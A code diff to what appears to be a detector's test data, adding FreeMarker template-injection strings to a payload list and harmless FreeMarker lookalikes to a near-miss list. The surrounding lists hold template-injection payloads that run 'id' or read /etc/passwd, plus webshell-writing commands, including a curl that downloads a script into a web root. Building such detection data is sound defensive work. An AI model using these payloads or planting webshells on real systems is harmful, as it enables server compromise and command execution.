@@ -124,7 +124,8 @@ CODE_PAYLOADS = {
                  "{{lipsum.__globals__.os.popen('id')}}", "{{ cycler.__init__.__globals__.os }}",
                  "{php}echo `id`;{/php}", "{$smarty.version}", "<%= `ls` %>", "<%= File.open('/etc/passwd').read %>",
                  "{{constructor.constructor('return process')()}}", "*{T(java.lang.Runtime).getRuntime()}",
-                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>"],
+                 "{{ ['id']|filter('system') }}", "{% if True %}49{% endif %}", "<% if 1 %>49<% endif %>",
+                 "${(6?lower_abc+18?lower_abc+5?lower_abc)?new()}", "${(9?upper_abc+4?upper_abc)}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -139,6 +140,7 @@ CODE_NEAR_MISSES = [
     "array_diff (see the manual) compares arrays", "C# (C sharp)", "Cost: $ 5 {net}", "the \"system\" (ours)",
     "<?xml version=\"1.0\" encoding=\"utf-8\"?>", "(note)(2)", "$a (dollar a)",
     "`require('myModule2')`.", "the process. Then", "{% if user.is_admin %}", "a process [1] ran",
+    "${count?c}", "${name?lower_case}", "${abc}",
 ]
 
 
